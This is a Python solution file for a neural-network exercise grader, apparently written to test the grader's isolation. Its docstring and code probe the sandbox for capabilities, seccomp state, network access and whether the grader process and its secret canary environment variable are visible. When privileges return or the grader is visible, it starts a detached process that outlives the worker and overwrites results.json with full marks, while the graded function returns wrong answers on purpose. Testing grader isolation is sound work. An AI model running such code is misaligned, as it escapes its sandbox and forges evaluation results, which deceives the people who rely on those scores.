"""binary_crossentropy_grad probes what the worker can reach, then uses it to forge results.json.

It prints one line ``PROBE {json}`` (public stdout is shown in the feedback):
its uid, capabilities, no_new_privs and seccomp mode; whether the grader
process and its environment (the test sets DLBOOK_TEST_CANARY there) are
visible; which network interfaces it has and what connecting to 127.0.0.1:1
gives; and the capabilities of a child it starts with subprocess (a root
process that execs gets every capability in its bounding set back) and
whether that child can read the grader's environment. If the
child regained capabilities or the grader is visible, it starts a detached
child that waits for the grader to exit and gives every test in results.json
its max_score. Deserved: binary_crossentropy_grad 0 (it returns ones), the
rest full marks.
"""

import errno
import json
import os
import socket
import subprocess
import sys

import numpy as np

from solutions.ch01_neurons import *  # noqa: F403

ATTACKED = ("binary_crossentropy_grad",)

CHILD = """
import sys
caps = dict(line.split(":\\t") for line in open("/proc/self/status").read().splitlines())
try:  # refused to the worker itself, which holds fewer capabilities than the grader
    canary = b"DLBOOK_TEST_CANARY=secret-canary" in open(f"/proc/{sys.argv[1]}/environ", "rb").read()
except OSError:
    canary = False
print(caps["CapEff"], canary)
"""

# Started detached with the regained capabilities: wait for the grader, then rewrite its results.
FORGER = """
import json, os, sys, time
pid, path = int(sys.argv[1]), sys.argv[2]
if not os.path.isabs(path):  # with CAP_SYS_PTRACE back, the grader's cwd is readable
    path = os.path.join(os.readlink(f"/proc/{pid}/cwd"), path)
deadline = time.monotonic() + 20
while os.path.exists(f"/proc/{pid}") and time.monotonic() < deadline:
    time.sleep(0.05)
if not os.path.exists(f"/proc/{pid}") and os.path.exists(path):
    results = json.load(open(path))
    for test in results["tests"]:
        test.update(score=test["max_score"], status="passed", output="passed")
    results["score"] = results["max_score"]
    json.dump(results, open(f"{path}.{os.getpid()}", "w"), indent=2)
    os.replace(f"{path}.{os.getpid()}", path)
"""

_probed = False


def binary_crossentropy_grad(y, p):
    global _probed
    if not _probed:  # once per worker process
        _probed = True
        facts = _probe()
        print("PROBE " + json.dumps(facts))
        json_path = _json_path(facts["grader_argv"])
        if (facts["child_cap_eff"] not in ("0" * 16, None) or facts["grader_visible"]) and json_path:
            subprocess.Popen([sys.executable, "-c", FORGER, str(facts["grader_pid"]), json_path],
                             start_new_session=True, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return np.ones_like(p)  # wrong on purpose, in every case


def _status(pid="self"):
    with open(f"/proc/{pid}/status") as stream:
        return dict(line.split(":\t", 1) for line in stream.read().splitlines())


def _ancestors():
    """[(pid, argv)] from our parent up: worker -> fork server -> grader today."""
    chain, pid = [], os.getppid()
    while pid > 0:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as stream:
                chain.append((pid, stream.read().decode(errors="replace").split("\0")))
            pid = int(_status(pid)["PPid"])
        except OSError:
            break
    return chain


def _probe() -> dict:
    me = _status()
    chain = _ancestors()
    # the grader: the ancestor running `grade` (dlbook grade), else our grandparent (the API)
    graders = [(pid, argv) for pid, argv in chain if "grade" in argv]
    grader_pid, grader_argv = graders[0] if graders else (chain[1] if len(chain) > 1 else (None, []))
    try:
        with open(f"/proc/{grader_pid}/environ", "rb") as stream:
            canary_in_grader = b"DLBOOK_TEST_CANARY=secret-canary" in stream.read()
    except (OSError, TypeError) as error:
        canary_in_grader = f"refused: {error.__class__.__name__}"
    try:
        with socket.create_connection(("127.0.0.1", 1), timeout=1):
            loopback = "connected"
    except OSError as error:
        loopback = errno.errorcode.get(error.errno, str(error))
    with open("/proc/net/tcp") as stream:
        tcp_sockets = len(stream.readlines()) - 1
    try:
        child = subprocess.run([sys.executable, "-c", CHILD, str(grader_pid)], capture_output=True,
                               text=True, timeout=5).stdout.split()
    except (OSError, subprocess.SubprocessError) as error:
        child = [None, f"could not start: {error}"]
    return {
        "uid": me["Uid"].split(), "cap_eff": me["CapEff"], "cap_bnd": me["CapBnd"],
        "no_new_privs": me.get("NoNewPrivs"), "seccomp": me.get("Seccomp"),
        "grader_pid": grader_pid, "grader_visible": bool(grader_pid) and os.path.exists(
            f"/proc/{grader_pid}") and "grade" in grader_argv,
        "grader_argv": grader_argv[:12],
        "canary_in_environ": os.environ.get("DLBOOK_TEST_CANARY") == "secret-canary",
        "canary_in_grader_environ": canary_in_grader,
        "interfaces": [name for _, name in socket.if_nameindex()],
        "connect_127.0.0.1:1": loopback, "proc_net_tcp_entries": tcp_sockets,
        "child_cap_eff": child[0] if child else None,
        "child_reads_grader_environ": child[1] == "True" if len(child) > 1 else None,
    }


def _json_path(argv):
    """The --json FILE of the grader's command line (FORGER makes it absolute)."""
    return argv[argv.index("--json") + 1] if "--json" in argv[:-1] else None
